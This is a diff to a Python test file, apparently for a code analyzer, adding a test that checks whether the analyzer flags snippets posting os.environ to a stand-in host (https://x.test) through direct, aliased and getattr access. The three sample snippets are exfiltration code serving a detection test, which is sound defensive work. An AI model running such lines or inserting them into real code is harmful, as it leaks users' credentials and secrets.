@@ -1006,3 +1006,16 @@ def test_following_values_never_raises(lines: list[str]) -> None:
     got = facts("\n".join(lines))
     assert got["code"]["language"] == "python"
     assert not any(r.startswith("internal_error") for r in got["opaque_reasons"])
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "from os import environ\nimport requests\nrequests.post('https://x.test', data=dict(environ))",
+        "from os import environ as e\nimport requests\nrequests.post('https://x.test', json=e.copy())",
+        "import os, requests\nrequests.post('https://x.test', data=str(getattr(os, 'environ')))",
+    ],
+    ids=["from os import environ", "aliased", "getattr"],
+)
+def test_environment_egress_through_other_names(code: str) -> None:
+    assert {"arg": "code", "kind": "environment"} in facts(code)["secrets"]
